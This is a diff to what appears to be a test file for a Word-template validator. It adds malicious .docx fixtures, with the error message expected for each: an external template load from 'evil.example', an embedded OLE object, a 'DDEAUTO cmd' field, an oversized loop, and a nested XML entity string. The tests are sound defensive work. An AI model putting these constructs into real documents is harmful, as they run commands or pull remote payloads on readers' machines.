@@ -165,6 +165,7 @@ ELSEWHERE = (
     b'<Relationship Id="rId99" TargetMode="External" Target="https://evil.example/x.dotm" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
 )
+RELATIONS_ELSEWHERE = b"<Relationships>" + ELSEWHERE + b"</Relationships>"
 ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
 
 HOSTILE = {
@@ -189,6 +190,26 @@ HOSTILE = {
         "broken",
     ),
     "broken XML": (lambda: rewritten("word/document.xml", b"</w:body>", b""), "broken"),
+    "a long loop": (
+        lambda: template("{%p for row in rows %}", "x" * 201_000, "{%p endfor %}"),
+        "What the loops of the template repeat is longer than 200 kB.",
+    ),
+    "a picture elsewhere": (
+        lambda: changed(template(), add={"WORD/_RELS/MORE.XML.RELS": RELATIONS_ELSEWHERE}),
+        "The file loads “https://evil.example/x.dotm” from elsewhere.",
+    ),
+    "an object": (
+        lambda: rewritten("word/document.xml", b"</w:body>", b"<oleObject/></w:body>"),
+        "The file has an object of another program inside.",
+    ),
+    "a field that starts a program": (
+        lambda: rewritten(
+            "word/document.xml",
+            b"</w:body>",
+            b'<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:body>',
+        ),
+        "The field “DDEAUTO” of the file starts or loads something else.",
+    ),
     "a template elsewhere": (
         lambda: rewritten(RELATIONS, b"</Relationships>", ELSEWHERE + b"</Relationships>"),
         "The file loads “https://evil.example/x.dotm” from elsewhere.",
